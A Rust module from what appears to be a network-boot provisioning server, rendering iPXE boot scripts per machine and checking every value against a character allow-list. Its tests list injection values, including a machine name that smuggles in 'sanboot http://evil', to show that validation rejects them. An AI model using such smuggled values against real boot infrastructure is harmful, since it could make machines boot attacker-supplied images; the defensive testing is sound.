//! Boot scripts for iPXE, from `templates/ipxe/`.
//!
//! A word that reaches a script could change what it does, so every value is checked to be of letters, digits and a few
//! marks before it is rendered.

use super::Shared;
use crate::agent::protocol::{Task, cmdline};
use crate::event::EventKind;
use crate::hardware::{Arch, MacAddr};
use crate::netboot::BootEntry;
use crate::netboot::installations::InstallationError;
use crate::secret::Secret;
use axum::extract::{ConnectInfo, Path, State};
use axum::http::StatusCode;
use axum::http::header::CONTENT_TYPE;
use axum::response::{IntoResponse, Response};
use minijinja::syntax::SyntaxConfig;
use minijinja::{Environment, UndefinedBehavior, context};
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;

/// A script that cannot be made.
#[derive(Debug, thiserror::Error)]
pub enum ScriptError {
    /// A template of ours is broken.
    #[error("a boot script's template cannot be rendered")]
    Template(#[from] minijinja::Error),
    /// A value that does not belong into a script.
    #[error("{value:?} cannot be part of a boot script: only letters, digits and .:/-_=, are allowed")]
    Value {
        /// The value.
        value: String,
    },
}

/// The scripts' templates, and what is the same in all of them.
#[derive(Debug)]
pub struct Scripts {
    templates: Environment<'static>,
    base: String,
    agent_url: String,
    certificate: String,
    task: Option<String>,
}

impl Scripts {
    /// `base` is the plain server's address, `certificate` the fingerprint of the agent API's.
    pub fn new(base: String, agent_url: String, certificate: String, task: Task) -> Result<Self, ScriptError> {
        let mut templates = Environment::new();
        templates.set_undefined_behavior(UndefinedBehavior::Strict);
        templates.set_syntax(SyntaxConfig::builder().trim_blocks(true).keep_trailing_newline(true).build()?);
        templates.add_template("boot", include_str!("../../../templates/ipxe/boot.ipxe"))?;
        templates.add_template("local", include_str!("../../../templates/ipxe/local.ipxe"))?;
        templates.add_template("chain", include_str!("../../../templates/ipxe/chain.ipxe"))?;
        let task = match task {
            Task::Install => None,
            Task::Inventory => Some(format!("{}={}", cmdline::TASK, Task::INVENTORY)),
        };
        Ok(Self { templates, base, agent_url, certificate, task })
    }

    /// Loads kernel, initramfs and agent, and starts them with this token.
    pub fn boot(&self, entry: &BootEntry, token: &Secret<String>) -> Result<String, ScriptError> {
        let (machine, mac) = (plain(&entry.machine)?, entry.mac.to_string());
        let values = context! {
            machine => machine,
            base => &self.base,
            agent_url => &self.agent_url,
            certificate => &self.certificate,
            token => plain(token.expose())?,
            mac => mac,
            address => entry.address.to_string(),
            gateway => entry.gateway.to_string(),
            task => &self.task,
            kernel => format!("boot/{}/vmlinuz", entry.arch),
            initrds => [format!("boot/{}/initramfs.cpio.zst", entry.arch), format!("boot/{}/agent.cpio.zst", entry.arch)],
            console => match entry.arch {
                Arch::Amd64 => "console=tty0 console=ttyS0,115200",
                Arch::Arm64 => "console=tty0 console=ttyAMA0,115200",
            },
        };
        Ok(self.templates.get_template("boot")?.render(values)?)
    }

    /// Starts from the disk.
    fn local(&self, entry: &BootEntry) -> Result<String, ScriptError> {
        Ok(self.templates.get_template("local")?.render(context! { machine => plain(&entry.machine)? })?)
    }

    /// Leads to the script of the machine that runs it.
    pub fn chain(&self) -> Result<String, ScriptError> {
        Ok(self.templates.get_template("chain")?.render(context! { base => &self.base })?)
    }
}

fn plain(value: &str) -> Result<&str, ScriptError> {
    let fine = |c: char| c.is_ascii_alphanumeric() || ".:/-_=,".contains(c);
    match !value.is_empty() && value.chars().all(fine) {
        true => Ok(value),
        false => Err(ScriptError::Value { value: value.to_owned() }),
    }
}

/// `GET /boot/{mac}/boot.ipxe`: a script for a machine that is being installed, with a fresh token; for one that is not,
/// a script that starts its disk; nothing for a stranger.
pub async fn of_machine(
    State(shared): State<Arc<Shared>>,
    ConnectInfo(client): ConnectInfo<SocketAddr>,
    Path(mac): Path<String>,
) -> Response {
    let Some(entry) = mac.parse::<MacAddr>().ok().and_then(|mac| shared.table.get(mac)) else {
        return (StatusCode::NOT_FOUND, "no machine of the inventory has this MAC address\n").into_response();
    };
    if let IpAddr::V4(address) = client.ip() {
        shared.table.seen_at(entry.mac, address);
    }
    if !entry.installing {
        return answer(shared.scripts.local(&entry));
    }
    match shared.installations.mint_token(&entry.machine).await {
        Ok(token) => {
            shared.events.emit(Some(&entry.machine), EventKind::BootScript { client: client.ip(), mac: entry.mac });
            answer(shared.scripts.boot(&entry, &token))
        }
        Err(InstallationError::NotInstalling(_)) => answer(shared.scripts.local(&entry)),
        Err(error) => (StatusCode::SERVICE_UNAVAILABLE, format!("{error}\n")).into_response(),
    }
}

/// `GET /autoexec.ipxe`.
pub async fn chain(State(shared): State<Arc<Shared>>) -> Response {
    answer(shared.scripts.chain())
}

fn answer(script: Result<String, ScriptError>) -> Response {
    match script {
        Ok(script) => ([(CONTENT_TYPE, "text/plain; charset=utf-8")], script).into_response(),
        Err(error) => {
            tracing::error!("{}", crate::error::chain(&error));
            (StatusCode::INTERNAL_SERVER_ERROR, format!("{error}\n")).into_response()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hardware::BootMode;
    use pretty_assertions::assert_eq;

    fn entry(machine: &str) -> BootEntry {
        BootEntry {
            machine: machine.to_owned(),
            mac: MacAddr([0x52, 0x54, 0, 0xaa, 0, 1]),
            address: "10.0.0.11/24".parse().unwrap(),
            gateway: [10, 0, 0, 1].into(),
            nameservers: Vec::new(),
            arch: Arch::Amd64,
            boot_mode: BootMode::Uefi,
            installing: true,
        }
    }

    fn scripts_for(task: Task) -> Scripts {
        Scripts::new("http://10.0.0.1:8080".into(), "https://10.0.0.1:8443".into(), "ab".repeat(32), task).unwrap()
    }

    fn scripts() -> Scripts {
        scripts_for(Task::Install)
    }

    /// METALGATE_BLESS=1 writes the files anew.
    #[test]
    fn scripts_are_those_that_were_reviewed() {
        let token = Secret::new(String::from("one-time-token"));
        let scripts = scripts();
        for (name, script) in [
            ("boot", scripts.boot(&entry("node-1"), &token).unwrap()),
            ("inventory", scripts_for(Task::Inventory).boot(&entry("node-1"), &token).unwrap()),
            ("local", scripts.local(&entry("node-1")).unwrap()),
            ("chain", scripts.chain().unwrap()),
        ] {
            let path = format!("{}/tests/golden/ipxe/{name}.ipxe", env!("CARGO_MANIFEST_DIR"));
            if std::env::var_os("METALGATE_BLESS").is_some() {
                std::fs::write(&path, &script).unwrap();
            }
            assert_eq!(std::fs::read_to_string(&path).unwrap_or_default(), script, "{name}");
        }
    }

    #[test]
    fn a_name_cannot_add_commands_to_a_script() {
        let token = Secret::new(String::from("token"));
        for name in ["node 1", "node\nsanboot http://evil", "${net0/mac}", "a;b", ""] {
            assert!(matches!(scripts().boot(&entry(name), &token), Err(ScriptError::Value { .. })), "{name:?}");
        }
        let token = Secret::new(String::from("to ken"));
        assert!(scripts().boot(&entry("node-1"), &token).is_err());
    }
}
